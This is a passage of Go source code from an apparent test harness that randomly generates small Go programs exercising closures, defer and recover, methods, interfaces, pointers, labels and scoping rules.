		g.P("z := 0.0")
		g.P("m[z] = 1")
		g.P("m[-z] += 2")
		g.P("m[0.1+0.2] = 3")
		g.P("m[0.3] += 4")
		g.P("println(\"fkey \" + itoa(int64(len(m))) + itoa(int64(m[0])) + itoa(int64(m[0.3])))")
		g.P("mr := map[rune]int{}")
		g.P("for _, r := range %s {", q(g.str()+"aa"))
		g.P("\tmr[r]++")
		g.P("}")
		g.P("println(\"rkey \" + itoa(int64(len(mr))) + itoa(int64(mr['a'])) + itoa(int64(mr[0xfffd])))")
		return "map:float-rune-keys"
	}
}

func genPointers(g *G) string {
	switch g.n(5) {
	case 0:
		g.P("x := %d", g.n(100))
		g.P("p := &x")
		g.P("pp := &p")
		g.P("**pp += 5")
		g.P("y := *p")
		g.P("*p = 0")
		g.P("q := &y")
		g.P("println(\"ptr \" + itoa(int64(x)) + itoa(int64(y)) + btoa(p == q) + btoa(p == *pp) + btoa(*q == y))")
		g.P("p = q")
		g.P("*p++")
		g.P("println(\"ptr2 \" + itoa(int64(y)) + itoa(int64(**pp)))")
		return "pointer:basic"
	case 1: // pointer to slice element across a reallocation (cap == len: append must copy)
		g.P("s := make([]int, 2, 2)")
		g.P("p := &s[0]")
		g.P("s = append(s, 1)")
		g.P("*p = %d", 1+g.n(50))
		g.P("s[1] = 8")
		g.P("t := make([]int, 2, 5)")
		g.P("pt := &t[1]")
		g.P("t = append(t, 1)")
		g.P("*pt = 7")
		g.P("println(\"elem \" + ints(s) + itoa(int64(*p)) + ints(t))")
		return "pointer:slice-elem"
	case 2: // nil dereference after some output
		g.D("type %s struct {\n\tv int\n\tnext *%s\n}", g.T("N"), g.T("N"))
		g.P("n := &%s{1, &%s{2, nil}}", g.T("N"), g.T("N"))
		g.P("sum := 0")
		g.P("for c := n; c != nil; c = c.next {")
		g.P("\tsum += c.v")
		g.P("}")
		g.P("println(\"sum \" + itoa(int64(sum)))")
		switch g.n(3) {
		case 0:
			g.P("println(\"deref \" + itoa(int64(n.next.next.v)))")
		case 1:
			g.P("var ip *int")
			g.P("try(func() { println(\"star \" + itoa(int64(*ip))) })")
			g.P("try(func() { *ip = 1 })")
			g.P("println(\"after\")")
		default:
			g.P("n.next.next.v = 3")
		}
		return "pointer:nil-deref"
	case 3: // pointers to struct fields and array elements
		g.D("type %s struct {\n\ta, b int\n\tarr [3]int\n}", g.T("S"))
		g.P("s := %s{}", g.T("S"))
		g.P("pa, pb, pe := &s.a, &s.b, &s.arr[%d]", g.n(3))
		g.P("*pa, *pb, *pe = 1, 2, 3")
		g.P("c := s")
		g.P("*pa = 10")
		g.P("println(\"fld \" + itoa(int64(s.a)) + itoa(int64(c.a)) + ints(s.arr[:]) + btoa(pa == &s.a) + btoa(pa == &c.a))")
		return "pointer:field-elem"
	default: // escaping locals: each call gets a fresh variable
		g.D("func %s(v int) *int {\n\tx := v\n\treturn &x\n}", g.T("mk"))
		g.P("a, b := %s(1), %s(1)", g.T("mk"), g.T("mk"))
		g.P("*a += %d", g.n(9))
		g.P("var ps []*int")
		g.P("for i := 0; i < 3; i++ {")
		g.P("\tps = append(ps, &i)")
		g.P("}")
		g.P("println(\"fresh \" + itoa(int64(*a)) + itoa(int64(*b)) + btoa(a == b) + itoa(int64(*ps[0])) + itoa(int64(*ps[1])) + itoa(int64(*ps[2])) + btoa(ps[0] == ps[1]))")
		return "pointer:fresh-locals"
	}
}

var _ = fmt.Sprintf
