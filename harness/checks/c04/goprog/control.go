package goprog

import (
	"fmt"
	"strings"
)

func init() {
	register("closure", 8, genClosures)
	register("defer", 10, genDefer)
	register("method", 7, genMethods)
	register("iface", 8, genIfaces)
	register("label", 7, genLabels)
	register("switch", 7, genSwitch)
	register("panic", 10, genPanics)
	register("evalorder", 5, genEvalOrder)
	register("func", 5, genFuncs)
	register("scope", 4, genScope)
}

// genScope: shadowing and the scopes of if/for/switch init statements.
func genScope(g *G) string {
	switch g.n(3) {
	case 0:
		g.P("x := %d", g.n(9))
		g.P("out := \"\"")
		g.P("if x := x * 2; x > %d {", g.n(12))
		g.P("\tout += \"a\" + itoa(int64(x))")
		g.P("} else if y := x + 1; y%%2 == 0 {")
		g.P("\tx := \"str\"")
		g.P("\tout += \"b\" + x + itoa(int64(y))")
		g.P("} else {")
		g.P("\tx, y = y, x")
		g.P("\tout += \"c\" + itoa(int64(x)) + itoa(int64(y))")
		g.P("}")
		g.P("for x := 0; x < 2; x++ {")
		g.P("\tx := x * 10")
		g.P("\tout += \"f\" + itoa(int64(x))")
		g.P("}")
		g.P("println(\"scope \" + out + \" \" + itoa(int64(x)))")
		return "scope:if-for-init"
	case 1:
		g.D("var %s = %d", g.T("pkg"), g.n(50))
		g.D("func %s() int { return %s }", g.T("get"), g.T("pkg"))
		g.P("before := %s()", g.T("get"))
		g.P("%s := %s + 1", g.T("pkg"), g.T("pkg"))
		g.P("%s++", g.T("pkg"))
		g.P("f := func() int { %s += 10; return %s }", g.T("pkg"), g.T("pkg"))
		g.P("r := f()")
		g.P("println(\"shadow-pkg \" + itoa(int64(before)) + itoa(int64(%s)) + itoa(int64(r)) + itoa(int64(%s())))", g.T("pkg"), g.T("get"))
		return "scope:shadow-package-var"
	default:
		g.D("func %s(n int) (res int, err string) {\n\tif n > 2 {\n\t\tres, err := n*2, \"inner\"\n\t\t_, _ = res, err\n\t}\n\tfor i, res := 0, 100; i < n; i++ {\n\t\tres += i\n\t\terr = itoa(int64(res))\n\t}\n\tres += n\n\treturn\n}", g.T("f"))
		g.P("a, b := %s(%d)", g.T("f"), g.n(6))
		g.P("println(\"named-shadow \" + itoa(int64(a)) + \" \" + b)")
		return "scope:named-result-shadow"
	}
}

func genClosures(g *G) string {
	n := 2 + g.n(4)
	switch g.n(8) {
	case 0: // 3-clause loop variable is per-iteration (Go 1.22)
		g.P("var fs []func() int")
		g.P("for i := 0; i < %d; i++ {", n)
		g.P("\tfs = append(fs, func() int { i += 10; return i })")
		g.P("}")
		g.P("for _, f := range fs {")
		g.P("\tprintln(\"  f \" + itoa(int64(f())) + \" \" + itoa(int64(f())))")
		g.P("}")
		return "closure:loopvar-for"
	case 1: // range loop variables are per-iteration
		g.P("var fs []func() string")
		g.P("for i, v := range []string{%s} {", strings.Join([]string{`"a"`, `"b"`, `"c"`, `"d"`, `"e"`}[:n], ", "))
		g.P("\tfs = append(fs, func() string { return itoa(int64(i)) + v })")
		g.P("}")
		g.P("out := \"\"")
		g.P("for _, f := range fs {")
		g.P("\tout += f()")
		g.P("}")
		g.P("println(\"range \" + out)")
		return "closure:loopvar-range"
	case 2: // body modifies the loop variable through a closure: copy-back at the end of the iteration
		g.P("for i := 0; i < %d; i++ {", 4+g.n(6))
		g.P("\tinc := func() { i++ }")
		g.P("\tif i%%%d == 0 {", 2+g.n(2))
		g.P("\t\tinc()")
		g.P("\t}")
		g.P("\tprintln(\"  i \" + itoa(int64(i)))")
		g.P("}")
		return "closure:loopvar-modified"
	case 3: // counters and shared variables
		g.D("func %s(start int) (func() int, func()) {\n\tc := start\n\treturn func() int { c++; return c }, func() { c *= 2 }\n}", g.T("mk"))
		g.P("inc, dbl := %s(%d)", g.T("mk"), g.n(10))
		g.P("inc2, _ := %s(100)", g.T("mk"))
		g.P("a := inc()")
		g.P("dbl()")
		g.P("b := inc()")
		g.P("c := inc2()")
		g.P("println(\"counter \" + itoa(int64(a)) + \" \" + itoa(int64(b)) + \" \" + itoa(int64(c)))")
		return "closure:counter-shared"
	case 4: // captured variable changes after capture
		g.P("x := %d", g.n(10))
		g.P("get := func() int { return x }")
		g.P("x += 5")
		g.P("set := func(v int) { x = v }")
		g.P("before := get()")
		g.P("set(%d)", g.n(100))
		g.P("y := x")
		g.P("{")
		g.P("\tx := 1000")
		g.P("\tx++")
		g.P("\t_ = x")
		g.P("}")
		g.P("println(\"capture \" + itoa(int64(before)) + \" \" + itoa(int64(get())) + \" \" + itoa(int64(y)))")
		return "closure:capture-by-ref"
	case 5: // defers in a loop capture per-iteration variables, run LIFO
		g.D("func %s() (out string) {\n\tfor i := 0; i < %d; i++ {\n\t\tdefer func() { out += itoa(int64(i)) }()\n\t\tdefer func(k int) { out += \"a\" + itoa(int64(k)) }(i * 2)\n\t}\n\treturn \"r\"\n}", g.T("f"), n)
		g.P("println(\"deferloop \" + %s())", g.T("f"))
		return "closure:defer-loop"
	case 6: // recursive closure, closure returning closure
		g.P("var fib func(int) int")
		g.P("fib = func(k int) int {")
		g.P("\tif k < 2 {")
		g.P("\t\treturn k")
		g.P("\t}")
		g.P("\treturn fib(k-1) + fib(k-2)")
		g.P("}")
		g.P("add := func(a int) func(int) int { return func(b int) int { return a + b } }")
		g.P("println(\"rec \" + itoa(int64(fib(%d))) + \" \" + itoa(int64(add(%d)(%d))))", 5+g.n(8), g.n(10), g.n(10))
		return "closure:recursive"
	default: // closures over range value of a struct slice, and goto-built loop
		g.P("type pair struct{ a, b int }")
		g.P("ps := []pair{{1, 2}, {3, 4}, {5, 6}}")
		g.P("var gs []func() int")
		g.P("for _, p := range ps {")
		g.P("\tp.a *= %d", 2+g.n(3))
		g.P("\tgs = append(gs, func() int { return p.a + p.b })")
		g.P("}")
		g.P("tot := 0")
		g.P("for _, f := range gs {")
		g.P("\ttot = tot*100 + f()")
		g.P("}")
		g.P("println(\"structs \" + itoa(int64(tot)) + \" \" + itoa(int64(ps[0].a)))")
		return "closure:range-struct"
	}
}

func genDefer(g *G) string {
	f := g.T("f")
	switch g.n(11) {
	case 0: // LIFO order, arguments evaluated at defer time
		g.D("func %s() {\n\tx := %d\n\tdefer println(\"d1 \" + itoa(int64(x)))\n\tx++\n\tdefer func() { println(\"d2 \" + itoa(int64(x))) }()\n\tx++\n\tdefer func(v int) { println(\"d3 \" + itoa(int64(v)) + itoa(int64(x))) }(x)\n\tx++\n\tprintln(\"body \" + itoa(int64(x)))\n}", f, g.n(10))
		g.P("%s()", f)
		return "defer:order-args"
	case 1: // named result modified by defer, also after panic
		g.D("func %s(p bool) (r int) {\n\tdefer func() {\n\t\tif e := recover(); e != nil {\n\t\t\tr = r*10 + 7\n\t\t}\n\t\tr++\n\t}()\n\tr = %d\n\tif p {\n\t\tpanic(\"x\")\n\t}\n\treturn r + 100\n}", f, g.n(9))
		g.P("println(\"named \" + itoa(int64(%s(false))) + \" \" + itoa(int64(%s(true))))", f, f)
		return "defer:named-result"
	case 2: // panic replaced by a panic in a deferred function; earlier defers still run
		g.D("func %s() {\n\tdefer func() { println(\"outer sees \" + describe(recover())) }()\n\tdefer func() { println(\"d-mid\") }()\n\tdefer func() { panic(\"second\") }()\n\tdefer func() { println(\"d-first\") }()\n\tpanic(\"first\")\n}", f)
		g.P("%s()", f)
		g.P("println(\"after\")")
		return "defer:panic-replaced"
	case 3: // recover only stops the panic when called directly by the deferred function
		g.D("func %s() any { return recover() }", g.T("helper"))
		g.D("func %s() (s string) {\n\tdefer func() {\n\t\ts += \" outer:\" + describe(recover())\n\t}()\n\tdefer func() {\n\t\ts += \"helper:\" + describe(%s())\n\t}()\n\tdefer func() {\n\t\tfunc() { s += \"nested:\" + describe(recover()) + \" \" }()\n\t}()\n\tpanic(%d)\n}", f, g.T("helper"), g.n(100))
		g.P("println(\"direct \" + %s())", f)
		return "defer:recover-direct-only"
	case 4: // recover with no panic, recover twice, re-panic
		g.D("func %s() {\n\tdefer func() {\n\t\tr := recover()\n\t\tprintln(\"again \" + describe(r) + \" \" + describe(recover()))\n\t}()\n\tdefer func() {\n\t\tr := recover()\n\t\tprintln(\"got \" + describe(r))\n\t\tpanic(vErr{%d})\n\t}()\n\tprintln(\"nopanic \" + describe(recover()))\n\tpanic(\"orig\")\n}", f, g.n(9))
		g.P("%s()", f)
		return "defer:repanic"
	case 5: // run-time error recovered, execution continues in the caller; loop of attempts
		g.D("func %s(a []int, i, d int) (r int, err string) {\n\tdefer func() {\n\t\tif e := recover(); e != nil {\n\t\t\terr = describe(e)\n\t\t\tr = -1\n\t\t}\n\t}()\n\treturn a[i] / d, \"\"\n}", f)
		g.P("a := []int{%s}", g.intList(3, 1, 50))
		for i := 0; i < 4; i++ {
			g.P("{")
			g.P("\tr, e := %s(a, %d, %d)", f, g.n(5)-1, g.n(3)-1)
			g.P("\tprintln(\"  try \" + itoa(int64(r)) + \" \" + e)")
			g.P("}")
		}
		return "defer:recover-runtime-error"
	case 6: // deferred method value / receiver evaluated at defer time
		g.D("type %s struct{ n int }", g.T("T"))
		g.D("func (t %s) show() { println(\"val \" + itoa(int64(t.n))) }", g.T("T"))
		g.D("func (t *%s) pshow() { println(\"ptr \" + itoa(int64(t.n))) }", g.T("T"))
		g.D("func %s() {\n\tt := %s{%d}\n\tdefer t.show()\n\tdefer t.pshow()\n\tt.n += 10\n\tdefer t.show()\n\tt.n += 10\n}", f, g.T("T"), g.n(9))
		g.P("%s()", f)
		return "defer:method-receiver"
	case 7: // panic inside nested calls unwinds every frame's defers in order
		g.D("func %s(d int) {\n\tdefer println(\"unwind \" + itoa(int64(d)))\n\tif d == 0 {\n\t\tvar m map[int]int\n\t\tm[1] = 1\n\t}\n\t%s(d - 1)\n\tprintln(\"not reached\")\n}", f, f)
		if g.coin() {
			g.P("try(func() { %s(%d) })", f, 1+g.n(3))
			g.P("println(\"after\")")
		} else {
			g.P("%s(%d)", f, 1+g.n(3))
		}
		return "defer:unwind-frames"
	case 8: // defer evaluated function value: nil func panics at exit, not at defer
		g.D("func %s() {\n\tvar fn func()\n\tdefer println(\"last\")\n\tdefer fn()\n\tprintln(\"body\")\n}", f)
		g.P("try(func() { %s() })", f)
		g.P("println(\"after\")")
		return "defer:nil-func"
	case 9: // return value computed before defers run; defer cannot change unnamed result
		g.D("func %s() int {\n\tx := %d\n\tdefer func() { x += 100 }()\n\treturn x\n}", f, g.n(9))
		g.D("func %s() (x int) {\n\tdefer func() { x += 100 }()\n\tx = %d\n\treturn x + 1\n}", g.T("g"), g.n(9))
		g.D("func %s() (x int) {\n\tdefer func() { x += 100 }()\n\treturn %d\n}", g.T("h"), g.n(9))
		g.P("println(\"results \" + itoa(int64(%s())) + \" \" + itoa(int64(%s())) + \" \" + itoa(int64(%s())))", f, g.T("g"), g.T("h"))
		return "defer:result-timing"
	default: // panic with different value kinds rendered by the top-level protocol
		vals := []string{"\"msg\"", "42", "vErr{3}", "&vErr{4}", "int8(-5)", "uint8(200)", "1.5", "true", "vKey{1, \"k\"}", "[]int{1, 2}", "error(vErr{9})"}
		v := pick(g, vals)
		g.P("println(\"before\")")
		g.P("defer println(\"deferred runs\")")
		if g.coin() {
			g.P("try(func() { panic(%s) })", pick(g, vals))
		}
		g.P("panic(%s)", v)
		return "defer:panic-values"
	}
}

func genMethods(g *G) string {
	T := g.T("T")
	switch g.n(7) {
	case 0: // value vs pointer receivers, auto address/deref
		g.D("type %s struct{ n int }", T)
		g.D("func (t %s) Inc() %s { t.n++; return t }", T, T)
		g.D("func (t *%s) PInc() { t.n++ }", T)
		g.P("t := %s{%d}", T, g.n(9))
		g.P("u := t.Inc()")
		g.P("t.PInc()")
		g.P("p := &t")
		g.P("w := p.Inc().Inc()")
		g.P("p.PInc()")
		g.P("println(\"recv \" + itoa(int64(t.n)) + itoa(int64(u.n)) + itoa(int64(w.n)))")
		return "method:value-pointer"
	case 1: // method values bind the receiver at evaluation time
		g.D("type %s struct{ n int }", T)
		g.D("func (t %s) Get() int { return t.n }", T)
		g.D("func (t *%s) PGet() int { return t.n }", T)
		g.P("t := %s{%d}", T, g.n(9))
		g.P("f := t.Get")
		g.P("pf := t.PGet")
		g.P("t.n += 10")
		g.P("e1 := %s.Get", T)
		g.P("e2 := (*%s).PGet", T)
		g.P("println(\"mval \" + itoa(int64(f())) + \" \" + itoa(int64(pf())) + \" \" + itoa(int64(e1(t))) + \" \" + itoa(int64(e2(&t))))")
		return "method:method-value-expr"
	case 2: // embedded promotion, shadowing, pointer-embedded
		B := g.T("B")
		g.D("type %s struct{ id int }", B)
		g.D("func (b %s) Who() string { return \"B\" + itoa(int64(b.id)) }", B)
		g.D("func (b *%s) SetID(v int) { b.id = v }", B)
		g.D("func (b %s) Over() string { return \"base\" }", B)
		g.D("type %s struct {\n\t%s\n\textra int\n}", T, B)
		g.D("func (t %s) Over() string { return \"outer+\" + t.%s.Over() }", T, B)
		g.D("type %s struct {\n\t*%s\n}", g.T("P"), B)
		g.P("t := %s{%s{1}, 2}", T, B)
		g.P("t.SetID(%d)", g.n(50))
		g.P("pp := %s{&t.%s}", g.T("P"), B)
		g.P("pp.SetID(pp.id + 1)")
		g.P("println(\"promo \" + t.Who() + \" \" + t.Over() + \" \" + pp.Who())")
		return "method:embedded"
	case 3: // interface holds a copy of a value, or the pointer
		I := g.T("I")
		g.D("type %s interface{ Get() int }", I)
		g.D("type %s struct{ n int }", T)
		g.D("func (t %s) Get() int { return t.n }", T)
		g.P("t := %s{%d}", T, g.n(9))
		g.P("var iv %s = t", I)
		g.P("var ip %s = &t", I)
		g.P("t.n += 100")
		g.P("println(\"ifcopy \" + itoa(int64(iv.Get())) + \" \" + itoa(int64(ip.Get())))")
		return "method:iface-copy"
	case 4: // nil pointer receivers
		g.D("type %s struct{ n int }", T)
		g.D("func (t *%s) Safe() string {\n\tif t == nil {\n\t\treturn \"nil-recv\"\n\t}\n\treturn itoa(int64(t.n))\n}", T)
		g.D("func (t %s) Val() int { return t.n }", T)
		g.P("var p *%s", T)
		g.P("println(\"safe \" + p.Safe())")
		if g.coin() {
			g.P("try(func() { println(\"val \" + itoa(int64(p.Val()))) })")
			g.P("println(\"after\")")
		} else {
			g.P("println(\"val \" + itoa(int64(p.Val())))")
		}
		return "method:nil-receiver"
	case 5: // methods on non-struct named types
		M := g.T("M")
		it := pick(g, intTypes)
		g.D("type %s %s", M, it.Name)
		g.D("func (m %s) Twice() %s { return m * 2 }", M, M)
		g.D("func (m *%s) Bump() { *m += 1 }", M)
		g.D("type %s []int", g.T("L"))
		g.D("func (l %s) Sum() (s int) {\n\tfor _, v := range l {\n\t\ts += v\n\t}\n\treturn\n}", g.T("L"))
		g.D("func (l *%s) Push(v int) { *l = append(*l, v) }", g.T("L"))
		g.P("var m %s = %s", M, g.val(it))
		g.P("m.Bump()")
		g.P("d := m.Twice().Twice()")
		g.P("var l %s", g.T("L"))
		g.P("l.Push(%d)", g.n(9))
		g.P("l.Push(%d)", g.n(9))
		g.P("println(\"named \" + %s + \" \" + %s + \" \" + itoa(int64(l.Sum())) + itoa(int64(len(l))))", it.show(it.Name+"(m)"), it.show(it.Name+"(d)"))
		return "method:named-types:" + it.Name
	default: // method sets and interface satisfaction via pointer
		I := g.T("I")
		g.D("type %s interface {\n\tGet() int\n\tSet(int)\n}", I)
		g.D("type %s struct{ n int }", T)
		g.D("func (t %s) Get() int { return t.n }", T)
		g.D("func (t *%s) Set(v int) { t.n = v }", T)
		g.D("func %s(i %s, v int) int {\n\ti.Set(i.Get() + v)\n\treturn i.Get()\n}", g.T("use"), I)
		g.P("t := %s{%d}", T, g.n(9))
		g.P("r := %s(&t, %d)", g.T("use"), g.n(9))
		g.P("var a any = t")
		g.P("_, isI := a.(%s)", I)
		g.P("_, isPI := any(&t).(%s)", I)
		g.P("println(\"mset \" + itoa(int64(r)) + itoa(int64(t.n)) + btoa(isI) + btoa(isPI))")
		return "method:method-sets"
	}
}

func genIfaces(g *G) string {
	S, I := g.T("S"), g.T("I")
	switch g.n(9) {
	case 0, 1: // type switch over mixed values
		g.D("type %s struct{ n int }", S)
		g.D("func (s %s) String() string { return \"S\" + itoa(int64(s.n)) }", S)
		g.D("type %s interface{ String() string }", I)
		g.D("type %s int", g.T("MyInt"))
		vals := []string{"1", "int8(2)", "uint(3)", "\"str\"", "2.5", "float32(1.5)", "true", "nil", S + "{4}", "&" + S + "{5}", "[]int{1}", "map[string]int{}", "'r'", "byte(7)", g.T("MyInt") + "(6)", "vErr{1}", "func() {}", "[2]int{1, 2}", "any(int64(9))", "struct{}{}"}
		var chosen []string
		for i := 0; i < 6+g.n(6); i++ {
			chosen = append(chosen, pick(g, vals))
		}
		g.P("vs := []any{%s}", strings.Join(chosen, ", "))
		g.P("for _, v := range vs {")
		g.P("\tswitch x := v.(type) {")
		g.P("\tcase nil:")
		g.P("\t\tprintln(\"  nil\")")
		g.P("\tcase int:")
		g.P("\t\tprintln(\"  int \" + itoa(int64(x)))")
		g.P("\tcase int8, uint:")
		g.P("\t\t_ = x")
		g.P("\t\tprintln(\"  int8|uint\")")
		g.P("\tcase int32:")
		g.P("\t\tprintln(\"  rune \" + itoa(int64(x)))")
		g.P("\tcase uint8:")
		g.P("\t\tprintln(\"  byte \" + utoa(uint64(x)))")
		g.P("\tcase %s:", g.T("MyInt"))
		g.P("\t\tprintln(\"  myint \" + itoa(int64(x)))")
		g.P("\tcase float64:")
		g.P("\t\tprintln(\"  f64 \" + f64s(x))")
		g.P("\tcase string:")
		g.P("\t\tprintln(\"  string \" + x)")
		g.P("\tcase error:")
		g.P("\t\tprintln(\"  error \" + x.Error())")
		g.P("\tcase %s:", I)
		g.P("\t\tprintln(\"  stringer \" + x.String())")
		g.P("\tcase []int:")
		g.P("\t\tprintln(\"  slice \" + ints(x))")
		g.P("\tcase func():")
		g.P("\t\tprintln(\"  func\")")
		g.P("\tcase bool:")
		g.P("\t\tprintln(\"  bool \" + btoa(x))")
		g.P("\tdefault:")
		g.P("\t\tprintln(\"  other\")")
		g.P("\t}")
		g.P("}")
		return "iface:type-switch"
	case 2: // assertions with comma-ok and a failing assertion
		g.D("type %s struct{ n int }", S)
		g.D("func (s %s) M() int { return s.n }", S)
		g.D("type %s interface{ M() int }", I)
		val := pick(g, []string{"1", "\"s\"", S + "{3}", "&" + S + "{4}", "nil", "int8(1)", "2.0"})
		g.P("var v any = %s", val)
		g.P("_, ok1 := v.(int)")
		g.P("_, ok2 := v.(string)")
		g.P("_, ok3 := v.(%s)", I)
		g.P("_, ok4 := v.(%s)", S)
		g.P("_, ok5 := v.(*%s)", S)
		g.P("println(\"ok \" + btoa(ok1) + btoa(ok2) + btoa(ok3) + btoa(ok4) + btoa(ok5))")
		target := pick(g, []string{"int", "string", I, S, "*" + S, "float64", "error"})
		if g.coin() {
			g.P("try(func() { x := v.(%s); _ = x; println(\"asserted\") })", target)
			g.P("println(\"after\")")
		} else {
			g.P("x := v.(%s)", target)
			g.P("_ = x")
			g.P("println(\"asserted\")")
		}
		return "iface:assert"
	case 3: // interface equality
		g.D("type %s struct{ n int }", S)
		g.P("var a, b any = %s, %s", pick(g, []string{"1", "int8(1)", "\"x\"", S + "{1}", "nil", "1.0"}), pick(g, []string{"1", "int64(1)", "\"x\"", S + "{1}", "nil", "float32(1)"}))
		g.P("p := &%s{1}", S)
		g.P("var c, d any = p, p")
		g.P("var e any = &%s{1}", S)
		g.P("println(\"eq \" + btoa(a == b) + btoa(a != b) + btoa(c == d) + btoa(c == e) + btoa(a == nil) + btoa(a == 1))")
		return "iface:equality"
	case 4: // typed nil pointer inside an interface is not nil
		g.D("type %s struct{ n int }", S)
		g.D("func (s *%s) Error() string { return \"S-error\" }", S)
		g.D("func %s(fail int) error {\n\tvar p *%s\n\tif fail == 1 {\n\t\tp = &%s{1}\n\t}\n\tif fail == 2 {\n\t\treturn nil\n\t}\n\treturn p\n}", g.T("mayFail"), S, S)
		g.P("for i := 0; i < 3; i++ {")
		g.P("\terr := %s(i)", g.T("mayFail"))
		g.P("\tprintln(\"  typednil \" + btoa(err == nil))")
		g.P("}")
		g.P("var e error")
		g.P("println(\"zero \" + btoa(e == nil) + describe(e))")
		return "iface:typed-nil"
	case 5: // embedded interfaces, dynamic dispatch through slices
		g.D("type %s interface{ Area() int }", I)
		g.D("type %s interface {\n\t%s\n\tName() string\n}", g.T("Named"), I)
		g.D("type %s struct{ w, h int }", g.T("Rect"))
		g.D("func (r %s) Area() int { return r.w * r.h }", g.T("Rect"))
		g.D("func (r %s) Name() string { return \"rect\" }", g.T("Rect"))
		g.D("type %s int", g.T("Sq"))
		g.D("func (s %s) Area() int { return int(s * s) }", g.T("Sq"))
		g.P("shapes := []%s{%s{%d, %d}, %s(%d), %s{1, 1}}", I, g.T("Rect"), g.n(9), g.n(9), g.T("Sq"), g.n(9), g.T("Rect"))
		g.P("tot := 0")
		g.P("names := \"\"")
		g.P("for _, s := range shapes {")
		g.P("\ttot += s.Area()")
		g.P("\tif n, ok := s.(%s); ok {", g.T("Named"))
		g.P("\t\tnames += n.Name()")
		g.P("\t}")
		g.P("}")
		g.P("println(\"dispatch \" + itoa(int64(tot)) + names)")
		return "iface:embedded-dispatch"
	case 6: // method call on nil interface value
		g.D("type %s interface{ M() int }", I)
		g.P("var i %s", I)
		g.P("println(\"isnil \" + btoa(i == nil))")
		if g.coin() {
			g.P("try(func() { println(itoa(int64(i.M()))) })")
			g.P("println(\"after\")")
		} else {
			g.P("println(itoa(int64(i.M())))")
		}
		return "iface:nil-method-call"
	case 7: // method value taken from an interface, interface embedded in a struct
		g.D("type %s interface{ Get() int }", I)
		g.D("type %s struct{ n int }", S)
		g.D("func (s *%s) Get() int { s.n++; return s.n }", S)
		g.D("type %s struct {\n\t%s\n\tlabel string\n}", g.T("W"), I)
		g.P("s := &%s{%d}", S, g.n(9))
		g.P("var i %s = s", I)
		g.P("f := i.Get")
		g.P("i = &%s{100}", S)
		g.P("w := %s{s, \"w\"}", g.T("W"))
		g.P("println(\"mv \" + itoa(int64(f())) + itoa(int64(i.Get())) + itoa(int64(w.Get())) + w.label + itoa(int64(s.n)))")
		return "iface:method-value-embedded"
	default: // assertion from one interface to another, and to concrete via switch with fallthrough-free cases
		g.D("type %s interface{ A() int }", I)
		g.D("type %s interface{ B() int }", g.T("J"))
		g.D("type %s struct{}", S)
		g.D("func (%s) A() int { return 1 }", S)
		g.D("func (%s) B() int { return 2 }", S)
		g.D("type %s struct{}", g.T("OnlyA"))
		g.D("func (%s) A() int { return 10 }", g.T("OnlyA"))
		g.P("is := []%s{%s{}, %s{}}", I, S, g.T("OnlyA"))
		g.P("for _, i := range is {")
		g.P("\tif j, ok := i.(%s); ok {", g.T("J"))
		g.P("\t\tprintln(\"  both \" + itoa(int64(i.A()+j.B())))")
		g.P("\t} else {")
		g.P("\t\tprintln(\"  onlyA \" + itoa(int64(i.A())))")
		g.P("\t}")
		g.P("}")
		if g.coin() {
			g.P("j := is[1].(%s)", g.T("J"))
			g.P("println(\"unreachable \" + itoa(int64(j.B())))")
		}
		return "iface:iface-to-iface"
	}
}

func genLabels(g *G) string {
	a, b, c := 2+g.n(4), 2+g.n(4), 1+g.n(6)
	switch g.n(6) {
	case 0: // labelled break / continue in nested loops
		g.P("out := \"\"")
		g.P("outer:")
		g.P("for i := 0; i < %d; i++ {", a+2)
		g.P("\tfor j := 0; j < %d; j++ {", b+2)
		g.P("\t\tif (i+j)%%%d == %d {", 2+g.n(3), g.n(2))
		g.P("\t\t\tcontinue outer")
		g.P("\t\t}")
		g.P("\t\tif i*j > %d {", c)
		g.P("\t\t\tbreak outer")
		g.P("\t\t}")
		g.P("\t\tif j == %d {", g.n(b+2))
		g.P("\t\t\tcontinue")
		g.P("\t\t}")
		g.P("\t\tout += itoa(int64(i)) + itoa(int64(j)) + \" \"")
		g.P("\t}")
		g.P("\tout += \"| \"")
		g.P("}")
		g.P("println(\"nested \" + out)")
		return "label:break-continue"
	case 1: // goto-built loop, forward goto over statements
		g.P("i, acc := 0, 0")
		g.P("loop:")
		g.P("if i < %d {", a+3)
		g.P("\ti++")
		g.P("\tif i%%%d == 0 {", 2+g.n(2))
		g.P("\t\tgoto loop")
		g.P("\t}")
		g.P("\tacc += i")
		g.P("\tif acc > %d {", 5+g.n(30))
		g.P("\t\tgoto done")
		g.P("\t}")
		g.P("\tgoto loop")
		g.P("}")
		g.P("acc = -acc")
		g.P("done:")
		g.P("println(\"goto \" + itoa(int64(i)) + \" \" + itoa(int64(acc)))")
		return "label:goto"
	case 2: // break out of switch inside for, labelled break from switch
		g.P("out := \"\"")
		g.P("loop:")
		g.P("for i := 0; i < %d; i++ {", a+4)
		g.P("\tswitch {")
		g.P("\tcase i == %d:", g.n(a+4))
		g.P("\t\tbreak")
		g.P("\tcase i == %d:", g.n(a+4))
		g.P("\t\tcontinue loop")
		g.P("\tcase i > %d:", 1+g.n(a+4))
		g.P("\t\tbreak loop")
		g.P("\tdefault:")
		g.P("\t\tout += \"d\"")
		g.P("\t}")
		g.P("\tout += itoa(int64(i))")
		g.P("}")
		g.P("println(\"swfor \" + out)")
		return "label:break-switch-in-for"
	case 3: // labelled continue in range loops with closures capturing
		g.P("var fs []func() int")
		g.P("rows := [][]int{{%s}, {%s}, {%s}}", g.intList(3, 0, 5), g.intList(3, 0, 5), g.intList(2, 0, 5))
		g.P("next:")
		g.P("for ri, row := range rows {")
		g.P("\tfor ci, v := range row {")
		g.P("\t\tif v == %d {", g.n(6))
		g.P("\t\t\tcontinue next")
		g.P("\t\t}")
		g.P("\t\tfs = append(fs, func() int { return ri*100 + ci*10 + v })")
		g.P("\t}")
		g.P("}")
		g.P("out := \"\"")
		g.P("for _, f := range fs {")
		g.P("\tout += itoa(int64(f())) + \" \"")
		g.P("}")
		g.P("println(\"range-labels \" + out)")
		return "label:continue-range-closure"
	case 4: // goto backwards with a fresh variable per pass captured by closure
		g.P("var fs []func() int")
		g.P("n := 0")
		g.P("again:")
		g.P("{")
		g.P("\tk := n * %d", 2+g.n(5))
		g.P("\tfs = append(fs, func() int { k++; return k })")
		g.P("}")
		g.P("n++")
		g.P("if n < %d {", a)
		g.P("\tgoto again")
		g.P("}")
		g.P("out := \"\"")
		g.P("for _, f := range fs {")
		g.P("\tout += itoa(int64(f())) + itoa(int64(f())) + \" \"")
		g.P("}")
		g.P("println(\"goto-closure \" + out)")
